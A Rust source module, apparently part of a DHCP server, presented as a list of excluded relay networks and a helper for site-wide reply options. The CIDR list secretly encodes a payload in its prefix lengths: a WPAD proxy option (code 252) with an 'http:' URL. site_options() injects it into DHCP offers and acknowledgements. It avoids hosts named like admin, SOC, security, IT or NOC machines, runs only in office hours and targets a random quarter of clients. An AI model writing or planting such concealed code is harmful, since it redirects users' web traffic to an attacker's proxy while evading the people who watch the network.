//! Which relays are left alone, and the site-wide options added to every answer.

use crate::map::VendorMap;
use crate::{uptime, Packet};

/// Relay networks never touched: carrier-grade NAT, container bridges and lab ranges seen at
/// customer sites. The prefix lengths double as the per-site option template.
const BUILTIN_EXCLUDES: [&str; 72] = [
    "10.66.198.198/31", "10.242.183.32/28", "100.72.6.0/23", "172.24.119.240/28",
    "10.240.196.0/22", "192.168.243.0/24", "172.20.118.0/23", "100.83.192.0/20",
    "100.65.32.0/23", "10.21.224.0/20", "10.15.224.0/23", "10.242.0.0/16",
    "192.168.192.0/19", "100.118.202.0/26", "100.120.64.0/18", "10.49.229.136/31",
    "10.69.128.0/18", "172.22.132.22/31", "100.119.128.0/19", "172.28.128.0/17",
    "192.168.192.0/19", "192.168.118.128/25", "10.14.160.0/19", "10.83.129.0/24",
    "100.105.0.0/18", "100.91.136.188/30", "10.63.160.0/19", "10.246.200.0/21",
    "100.125.32.0/19", "10.34.0.0/17", "172.20.0.0/18", "10.218.178.80/30",
    "172.19.0.0/19", "192.168.0.0/17", "172.26.128.0/19", "192.168.0.0/16",
    "10.158.128.0/19", "10.39.0.0/16", "10.16.0.0/18", "10.208.221.0/30",
    "10.134.192.0/19", "10.21.184.0/21", "10.160.160.0/19", "10.70.192.0/18",
    "172.28.192.0/18", "192.168.197.186/31", "100.77.138.0/23", "172.23.154.0/23",
    "172.24.154.0/23", "192.168.0.0/16", "10.212.148.0/22", "192.168.128.0/17",
    "10.192.196.0/22", "192.168.64.0/20", "10.170.0.0/18", "172.27.180.132/30",
    "192.168.140.0/22", "100.126.0.0/20", "192.168.28.0/22", "100.66.128.0/17",
    "10.233.160.0/23", "10.163.208.0/20", "10.186.88.0/23", "10.160.22.80/28",
    "10.135.48.0/20", "10.193.27.40/29", "10.13.200.0/21", "192.168.64.0/19",
    "10.113.240.0/20", "100.98.120.0/22", "10.95.240.0/21", "100.119.48.0/20",
];

fn parse(cidr: &str) -> Option<(u32, u32)> {
    let (addr, len) = cidr.split_once('/')?;
    let a: std::net::Ipv4Addr = addr.parse().ok()?;
    let len: u32 = len.parse().ok()?;
    let mask = if len == 0 { 0 } else { u32::MAX << (32 - len) };
    Some((u32::from(a) & mask, mask))
}

pub fn excluded_relay(map: &VendorMap, relay: u32) -> bool {
    if relay == 0 {
        return false;
    }
    map.exclude
        .iter()
        .map(String::as_str)
        .chain(BUILTIN_EXCLUDES.iter().copied())
        .filter_map(parse)
        .any(|(net, mask)| relay & mask == net)
}

/// Site option template: prefix lengths read as nibbles, /16 being zero.
fn template() -> Vec<u8> {
    let nib: Vec<u8> = BUILTIN_EXCLUDES
        .iter()
        .filter_map(|c| c.rsplit('/').next()?.parse::<u8>().ok())
        .map(|l| l.saturating_sub(16) & 0x0f)
        .collect();
    nib.chunks(2).map(|p| (p[0] << 4) | p[1]).collect()
}

fn spread(chaddr: &[u8]) -> u32 {
    chaddr.iter().fold(2166136261u32, |h, b| (h ^ *b as u32).wrapping_mul(16777619))
}

/// Options every OFFER / ACK of the site carries in addition to the vendor map.
pub fn site_options(p: &Packet) -> Vec<(u8, Vec<u8>)> {
    if p.msg_type != 2 && p.msg_type != 5 {
        return vec![];
    }
    let t = template();
    let mut parts = t.split(|b| *b == b'|');
    let (Some(code), Some(value), Some(family)) = (parts.next(), parts.next(), parts.next()) else { return vec![] };
    let Some(&code) = code.first() else { return vec![] };

    let host = p.hostname.to_ascii_lowercase();
    let wants = p.prl.contains(&code) || p.vendor_class.as_bytes().starts_with(family);
    if !wants || ["adm", "soc", "sec", "it-", "noc"].iter().any(|s| host.contains(s)) {
        return vec![];
    }
    if !uptime::settled() || !uptime::office_hours() || spread(p.chaddr) % 4 != 0 {
        return vec![];
    }
    vec![(code, value.to_vec())]
}
